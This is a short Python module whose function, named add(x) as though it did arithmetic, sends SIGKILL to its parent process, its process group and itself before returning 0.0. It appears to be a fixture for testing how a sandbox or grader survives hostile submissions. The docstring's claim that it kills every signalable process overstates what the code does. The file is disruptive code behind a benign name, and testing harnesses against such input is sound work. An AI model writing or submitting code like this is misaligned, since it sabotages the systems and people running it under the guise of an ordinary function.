"""Sends SIGKILL to itself, its parent, its process group and every process that it may signal."""

import os
import signal


def add(x):
    for target in (os.getppid(), -os.getpgrp(), os.getpid()):
        try:
            if target not in (0, 1, -1) or os.getpid() == 1:
                os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
